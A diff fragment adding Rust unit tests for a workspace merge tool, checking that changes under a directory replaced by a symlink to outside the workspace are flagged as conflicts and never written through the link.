+        std::thread::sleep(std::time::Duration::from_millis(1100));
+        fs::remove_file(ws.join("d/x")).expect("rm");
+        let ch = changes(&ws, &up).expect("changes");
+        assert!(conflicts(&ws, &up, &ch, now).is_empty(), "{ch:?}");
+        fs::write(ws.join("d/host-new"), "host").expect("write");
+        let with_host = changes(&ws, &up).expect("changes");
+        assert_eq!(
+            conflicts(&ws, &up, &with_host, now),
+            vec![PathBuf::from("d/host-new")]
+        );
+        fs::remove_file(ws.join("d/host-new")).expect("rm");
+        let r = apply(&ws, &up, &ch, false, &t.path().join("j")).expect("apply");
+        assert!(r.refused.is_empty());
+        assert_eq!(fs::read_link(ws.join("d")).expect("link"), outside);
+        assert_eq!(
+            fs::read_to_string(outside.join("x")).expect("read"),
+            "outside"
+        );
+        // The other order (link first, then deleting d/x through it) would have removed it.
+        let mut bad = ch.clone();
+        bad.sort_by(|a, b| a.path.cmp(&b.path));
+        assert_eq!(
+            bad[0].path,
+            Path::new("d"),
+            "the naive order puts the link first"
+        );
+    }
+
+    /// The host replaced a directory with a link to outside the workspace before the merge: the
+    /// change below it is a conflict and the merge writes nothing through the link.
+    #[test]
+    fn a_link_swapped_in_on_the_host_is_never_written_through() {
+        let t = tempfile::tempdir().expect("tempdir");
+        let (ws, up, outside) = (
+            t.path().join("ws"),
+            t.path().join("up"),
+            t.path().join("out"),
+        );
+        for d in [&ws, &up.join("src/deep"), &outside.join("deep")] {
+            fs::create_dir_all(d).expect("mkdir");
+        }
+        fs::write(outside.join("lib.rs"), "outside").expect("write");
+        fs::write(up.join("src/lib.rs"), "agent").expect("write");
+        fs::write(up.join("src/deep/new.rs"), "agent").expect("write");
+        std::os::unix::fs::symlink(&outside, ws.join("src")).expect("symlink");
+        let ch = vec![
+            Change::new("src/deep/new.rs".into(), ChangeKind::Added, EntryType::File),
+            Change::new("src/gone.rs".into(), ChangeKind::Deleted, EntryType::File),
+            Change::new("src/lib.rs".into(), ChangeKind::Modified, EntryType::File),
+        ];
+        fs::write(outside.join("gone.rs"), "outside").expect("write");
+        assert_eq!(conflicts(&ws, &up, &ch, i64::MAX).len(), 3);
+        let err = apply(&ws, &up, &ch, false, &t.path().join("j")).expect_err("refused");
+        assert!(err.to_string().contains("no longer a directory"), "{err}");
+        assert_eq!(
+            fs::read_to_string(outside.join("lib.rs")).expect("r"),
+            "outside"
+        );
+        assert!(outside.join("gone.rs").exists());
+        assert!(!outside.join("deep/new.rs").exists());
+        // A race after validation is caught by the descriptor walk itself.
+        let root = open_root(&ws).expect("root");
+        let e = open_parent(&root, &ws, Path::new("src/lib.rs")).expect_err("no follow");
+        assert!(e.to_string().contains("not a directory"), "{e}");
     }
 }
